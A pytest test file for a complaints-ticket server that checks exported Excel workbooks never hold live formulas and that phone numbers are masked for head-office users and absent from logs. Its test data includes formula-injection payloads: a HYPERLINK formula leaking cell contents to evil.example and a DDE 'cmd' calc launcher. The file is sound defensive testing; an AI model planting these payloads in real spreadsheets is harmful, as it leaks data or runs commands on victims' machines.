"""Battery 5 and 13: what leaves the server in workbooks and logs.

5. Text starting with ``= + - @ \\t \\r \\n \\0`` (and other control characters)
   is never a live formula in any export — the branch workbook writer, the
   merged workbook downloaded from /branch, the consolidated workbook of
   ``GET /api/consolidated`` — and comes back exactly through the reader and
   the pull.
13. No full phone number in the consolidated workbook of a head-office user
    (who may not see them), nor in anything the server logs while branches
    sync, upload and head office exports (caplog in process; gunicorn's stderr).
"""

from __future__ import annotations

import io
import logging
import os
import re
import subprocess
import sys
import time
import uuid
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import requests
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook
from python_calamine import CalamineWorkbook

from complaints.schema import TICKETS, ColType
from complaints.validation import IDENTIFIERS
from server import create_app
from server.storage.db import get_db
from server.xlsx import read_workbook, write_workbook
from server.xlsx.template import build_workbook
from tests.battery.hostile_files import NOW, ticket, workbook_bytes
from tests.server.api.conftest import (
    REPO,
    _drop_postgres_database,
    _fresh_postgres_database,
    _postgres_available,
    add_branch,
    add_head_office,
    free_port,
)

pytestmark = pytest.mark.battery

TRIGGERS = [
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "\0",
    "\x01",
    "\x07",
    "\x08",
    "\x0b",
    "\x0c",
    "\x1b",
    "\x1f",
]
TRICKY = [
    *(f"{c}SUM(1,2)" for c in TRIGGERS),
    '=HYPERLINK("http://evil.example/?leak="&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+86 宽带每晚断线",
    "-2+3",
    "@SUM(A1:A9)",
    "\r\n=1+1",
    "\t\t=1",
    "\x7f=1",
    "＝1+1",
    "_x003D_1+1 literal escape",
    "=" + "长" * 300,
]
"""Texts a spreadsheet would take for a formula (or that XML cannot hold as they are)."""
TEXT_KEYS = [
    c.key for c in TICKETS.columns if c.type is ColType.TEXT and not c.computed and c.key != "sync_key"
]
FORMULA = re.compile(rb"<(?:[A-Za-z_][\w.-]*:)?f[\s>/]")
CONSOLIDATED = "/api/consolidated?start=2026-11-01&end=2026-12-01"
CONTACTS = [
    "13800138000",
    "+86 139 0013 9001",
    "138-0013-8002",
    "(0755) 8888-1234",
    "0755-88881235",
    "１３８００１３８００３",
    "13800138004 / 13900139005",
]
"""Contact numbers as people type them: plain, country code, separators, full-width digits, two at once."""


def tricky_fields(n: int, text: str) -> dict[str, Any]:
    """A new ticket whose free-text fields all hold ``text`` (the required ones start with it)."""
    fields = {
        "ticket_id": f"SZ01-20261124-{n:04d}",
        "received_at": "2026-11-24T01:10:00+00:00",
        "channel": "hotline",
        "contact": CONTACTS[n % len(CONTACTS)],
        "category": "network_fault",
        "grade": "moderate",
    }
    for key in TEXT_KEYS:
        fields.setdefault(key, text)
    return fields


def sync(client: FlaskClient, token: str, body: dict[str, Any]) -> dict[str, Any]:
    response = client.post(
        "/api/sync",
        json=body,
        headers={"Authorization": f"Bearer {token}", "Idempotency-Key": uuid.uuid4().hex},
    )
    assert response.status_code == 200, response.get_json()
    return response.get_json()


def push_tricky(client: FlaskClient, token: str) -> dict[str, dict[str, Any]]:
    """Push one ticket per tricky text; return the pulled rows by ticket number."""
    tickets = [{"sync_key": uuid.uuid4().hex, "fields": tricky_fields(n, t)} for n, t in enumerate(TRICKY, 1)]
    out = sync(client, token, {"cursor": 0, "tickets": tickets})
    assert not any(out["pushed"]["rejected"].values()), out["pushed"]["rejected"]
    return {row["ticket_id"]: row for row in out["pulled"]["tickets"]}


def csrf(client: FlaskClient) -> str:
    page = client.get("/branch/").get_data(as_text=True)
    return re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)  # type: ignore[union-attr]


def portal(app: Flask, token: str) -> FlaskClient:
    client = app.test_client()
    response = client.post(
        "/branch/signin", data={"branch": "SZ01", "token": token, "csrf_token": csrf(client)}
    )
    assert response.status_code == 302
    return client


def upload_and_download(client: FlaskClient, data: bytes) -> bytes:
    response = client.post(
        "/branch/upload",
        data={"csrf_token": csrf(client), "workbook": (io.BytesIO(data), "SZ01.xlsx")},
        content_type="multipart/form-data",
    )
    page = response.get_data(as_text=True)
    assert response.status_code == 200, page
    link = re.search(r'href="(/branch/download/[^"]+)"', page)
    assert link, page
    download = client.get(link.group(1))
    assert download.status_code == 200
    data = download.data
    download.close()
    return data


def assert_no_formulas(data: bytes) -> None:
    """No worksheet of the .xlsx holds a formula element."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")]
        assert sheets
        for name in sheets:
            assert not FORMULA.search(archive.read(name)), f"{name} holds a formula"


def string_cells(data: bytes) -> tuple[set[str], list[tuple[str, object]]]:
    """Every string cell value as calamine decodes it, and values that are neither text nor numbers."""
    book = CalamineWorkbook.from_object(io.BytesIO(data))
    strings: set[str] = set()
    others: list[tuple[str, object]] = []
    for name in book.sheet_names:
        for row in book.get_sheet_by_name(name).iter_rows():
            for value in row:
                if isinstance(value, str):
                    strings.add(value)
                elif value not in ("", None) and not isinstance(value, int | float | bool):
                    others.append((name, value))
    book.close()
    return strings, others


# --- 5. formulas ---------------------------------------------------------------------------


def test_the_writer_writes_formula_like_text_as_text_and_reads_it_back_exactly(tmp_path: Path) -> None:
    # the ticket number keeps its own: the one policy refuses control characters in an identifier
    texts = [key for key in TEXT_KEYS if key not in IDENTIFIERS]
    tickets = [ticket(n, **dict.fromkeys(texts, text)) for n, text in enumerate(TRICKY, 1)]
    path = tmp_path / "SZ01.xlsx"
    build_workbook("SZ01", "zh").save(path)

    write_workbook(path, path, tickets=tickets)

    data = path.read_bytes()
    assert_no_formulas(data)
    strings, _ = string_cells(data)
    assert set(TRICKY) <= strings  # every text is a string cell, decoded exactly
    back = {t.ticket_id: t for t in read_workbook(data, now=NOW).tickets}
    for original in tickets:
        for key in texts:
            assert getattr(back[original.ticket_id], key) == getattr(original, key), key


def test_the_merged_branch_workbook_holds_no_formula_and_round_trips_through_upload_and_pull(
    app: Flask,
) -> None:
    token = add_branch(app, "SZ01")
    client = portal(app, token)
    pushed = push_tricky(client, token)
    # a workbook made by the template with tricky texts of its own, uploaded and downloaded merged
    own = [ticket(100 + n, description=text, customer_name=text) for n, text in enumerate(TRICKY)]

    merged = upload_and_download(client, workbook_bytes(own))

    assert_no_formulas(merged)
    strings, _ = string_cells(merged)
    assert set(TRICKY) <= strings
    back = {t.ticket_id: t for t in read_workbook(merged, now=NOW).tickets}
    for ticket_id, row in pushed.items():  # the server's tickets, written into the workbook
        for key in TEXT_KEYS:
            assert getattr(back[ticket_id], key) == row[key], (ticket_id, key)
    pulled = sync(client, token, {"cursor": 0})["pulled"]["tickets"]
    by_id = {row["ticket_id"]: row for row in pulled}
    for original in own:  # the workbook's own tickets, stored and pulled back
        assert by_id[original.ticket_id]["description"] == original.description
        assert by_id[original.ticket_id]["customer_name"] == original.customer_name
        assert back[original.ticket_id].description == original.description


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_the_consolidated_workbook_holds_no_formula_and_shows_the_texts_exactly(
    app: Flask, lang: str
) -> None:
    token = add_branch(app, "SZ01")
    client = app.test_client()
    push_tricky(client, token)
    hq = add_head_office(app, "analyst")

    response = client.get(f"{CONSOLIDATED}&lang={lang}", headers={"Authorization": f"Bearer {hq}"})

    assert response.status_code == 200
    data = response.data
    assert_no_formulas(data)
    strings, _ = string_cells(data)
    missing = [text for text in TRICKY if text not in strings]
    assert not missing, missing


@pytest.fixture
def postgres_app() -> Iterator[Flask]:
    """The app on a fresh PostgreSQL database (fails without one when REQUIRE_POSTGRES=1)."""
    if not _postgres_available():
        if os.environ.get("REQUIRE_POSTGRES") == "1":
            pytest.fail("PostgreSQL required (REQUIRE_POSTGRES=1) but not reachable")
        pytest.skip("PostgreSQL not reachable")
    url, name = _fresh_postgres_database()
    app = create_app({"TESTING": True, "DATABASE_URL": url, "CLOCK": lambda: NOW})
    with app.app_context():
        get_db().upgrade()
    yield app
    with app.app_context():
        get_db().dispose()
    _drop_postgres_database(name)


def test_on_postgresql_text_with_a_nul_character_is_refused_by_the_api_and_the_upload_naming_the_place(
    postgres_app: Flask, tmp_path: Path
) -> None:
    """PostgreSQL text cannot hold U+0000 (SQLite can, and round-trips it exactly, as above)."""
    postgres_app.config["BRANCH_DOWNLOADS"] = str(tmp_path / "downloads")
    token = add_branch(postgres_app, "SZ01")
    client = portal(postgres_app, token)
    body = {"cursor": 0, "tickets": [{"sync_key": uuid.uuid4().hex, "fields": tricky_fields(1, "\0=1+1")}]}
    pushed = client.post(
        "/api/sync", json=body, headers={"Authorization": f"Bearer {token}", "Idempotency-Key": "nul"}
    )
    assert pushed.status_code == 400 and pushed.get_json()["error"] == "nul_character"

    with_nul = workbook_bytes([ticket(1, place="阳光\0花园")])
    response = client.post(
        "/branch/upload",
        data={"csrf_token": csrf(client), "workbook": (io.BytesIO(with_nul), "SZ01.xlsx")},
        content_type="multipart/form-data",
    )

    page = response.get_data(as_text=True)
    assert response.status_code == 422
    assert "第 2 行" in page and "空字符" in page
    assert sync(client, token, {"cursor": 0})["pulled"]["tickets"] == []


# --- 13. phone numbers ----------------------------------------------------------------------


def digit_runs(text: str) -> str:
    """The digits of ``text`` (full-width ones too) with everything else removed."""
    return "".join(str(int(ch)) for ch in text if ch.isdigit())


def full_numbers_in(texts: set[str] | list[str]) -> list[str]:
    """The contact numbers (each of them, when a cell holds two) that some text shows in full."""
    numbers = [digit_runs(part) for contact in CONTACTS for part in contact.split("/")]
    shown = [digit_runs(t) for t in texts]
    return [n for n in numbers if any(n in s for s in shown)]


def workbook_texts(data: bytes) -> list[str]:
    """Every string cell of every sheet, and the raw text of every XML part (comments, properties)."""
    strings, _ = string_cells(data)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = [archive.read(n).decode("utf-8", "replace") for n in archive.namelist() if n.endswith(".xml")]
    # cell by cell, so that digits of neighbouring cells never join into a number
    return [*strings, *(re.sub(r"<[^>]*>", "\n", p) for p in parts)]


def test_a_head_office_user_gets_every_phone_number_masked_and_an_administrator_in_full(app: Flask) -> None:
    from tests.server.consolidate.conftest import admin_token

    token = add_branch(app, "SZ01")
    client = app.test_client()
    push_tricky(client, token)
    hq = add_head_office(app, "analyst")

    masked = client.get(CONSOLIDATED, headers={"Authorization": f"Bearer {hq}"})
    full = client.get(CONSOLIDATED, headers={"Authorization": f"Bearer {admin_token(app)}"})

    assert masked.status_code == full.status_code == 200
    assert full_numbers_in(workbook_texts(masked.data)) == []
    assert len(full_numbers_in(workbook_texts(full.data))) == 8  # the test can see a number when it is there


def test_a_phone_number_typed_into_the_description_is_masked_for_head_office_too(app: Flask) -> None:
    token = add_branch(app, "SZ01")
    client = app.test_client()
    fields = tricky_fields(1, "客户要求回电 13800138000 或座机 0755-83201234，晚上八点后")
    sync(client, token, {"cursor": 0, "tickets": [{"sync_key": uuid.uuid4().hex, "fields": fields}]})
    hq = add_head_office(app, "analyst")

    masked = client.get(CONSOLIDATED, headers={"Authorization": f"Bearer {hq}"})

    texts = "".join(workbook_texts(masked.data))
    assert "13800138000" not in texts and "0755-83201234" not in texts
    assert "回电 138****8000 或座机 0755-****1234，晚上" in texts  # the rest of the description is kept


def exercise(client: FlaskClient, app: Flask, token: str, hq: str) -> None:
    """Sync, upload (a good and a refused workbook), a bad push and the consolidated export."""
    push_tricky(client, token)
    bad = {"sync_key": uuid.uuid4().hex, "fields": {**tricky_fields(90, "x"), "channel": CONTACTS[0]}}
    out = sync(client, token, {"cursor": 0, "tickets": [bad]})
    assert out["pushed"]["rejected"]["tickets"]  # refused, naming the bad value to the branch itself
    branch = portal(app, token)
    upload_and_download(branch, workbook_bytes([ticket(200, contact=CONTACTS[1])]))
    book = load_workbook(io.BytesIO(workbook_bytes([ticket(201, contact=CONTACTS[2])])))
    sheet = book[TICKETS.zh]
    headers = [c.value for c in sheet[1]]
    sheet.cell(2, headers.index("受理时间") + 1).value = CONTACTS[3]  # a phone number in a date column
    sheet.cell(2, headers.index("受理渠道") + 1).value = CONTACTS[4]  # and in a drop-down column
    out = io.BytesIO()
    book.save(out)
    refused = out.getvalue()
    response = branch.post(
        "/branch/upload",
        data={"csrf_token": csrf(branch), "workbook": (io.BytesIO(refused), "SZ01.xlsx")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 422  # the page names the bad cells to the branch itself
    assert client.get(CONSOLIDATED, headers={"Authorization": f"Bearer {hq}"}).status_code == 200


def test_nothing_the_server_logs_holds_a_full_phone_number(
    app: Flask, caplog: pytest.LogCaptureFixture
) -> None:
    token = add_branch(app, "SZ01")
    hq = add_head_office(app, "analyst")
    caplog.set_level(logging.DEBUG)

    exercise(app.test_client(), app, token, hq)

    lines = [record.getMessage() for record in caplog.records]
    lines += [caplog.text]
    assert caplog.records  # the run did log
    assert full_numbers_in(lines) == []


def test_gunicorn_stderr_holds_no_full_phone_number(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'served.db'}"
    app = create_app({"DATABASE_URL": url})
    with app.app_context():
        get_db().upgrade()
    token = add_branch(app, "SZ01")
    hq = add_head_office(app, "analyst")
    with app.app_context():
        get_db().dispose()
    port = free_port()
    stderr = tmp_path / "gunicorn.err"
    with stderr.open("wb") as err:
        server = subprocess.Popen(
            [sys.executable, "-m", "gunicorn", "--workers", "2", "--bind", f"127.0.0.1:{port}",
             "--log-level", "debug", "--access-logfile", "-", "server:create_app()"],
            cwd=REPO, env={**os.environ, "FLASK_DATABASE_URL": url}, stdout=err, stderr=err,
        )  # fmt: skip
        try:
            base = f"http://127.0.0.1:{port}"
            deadline = time.monotonic() + 60
            while time.monotonic() < deadline:
                try:
                    if requests.get(base + "/api/openapi.json", timeout=10).status_code == 200:
                        break
                except (requests.ConnectionError, requests.Timeout):
                    time.sleep(0.2)
            auth = {"Authorization": f"Bearer {token}"}
            tickets = [{"sync_key": uuid.uuid4().hex, "fields": tricky_fields(n, "x")} for n in range(1, 9)]
            bad = {"sync_key": uuid.uuid4().hex, "fields": {**tricky_fields(90, "x"), "channel": CONTACTS[0]}}
            for body in ({"cursor": 0, "tickets": tickets}, {"cursor": 0, "tickets": [bad]}):
                pushed = requests.post(
                    base + "/api/sync",
                    json=body,
                    headers={**auth, "Idempotency-Key": uuid.uuid4().hex},
                    timeout=60,
                )
                assert pushed.status_code == 200
            export = requests.get(base + CONSOLIDATED, headers={"Authorization": f"Bearer {hq}"}, timeout=60)
            assert export.status_code == 200
            assert full_numbers_in(workbook_texts(export.content)) == []
        finally:
            server.terminate()
            server.wait(timeout=30)
    text = stderr.read_text(errors="replace")
    assert "/api/sync" in text  # the access log was captured
    assert full_numbers_in(text.splitlines()) == []
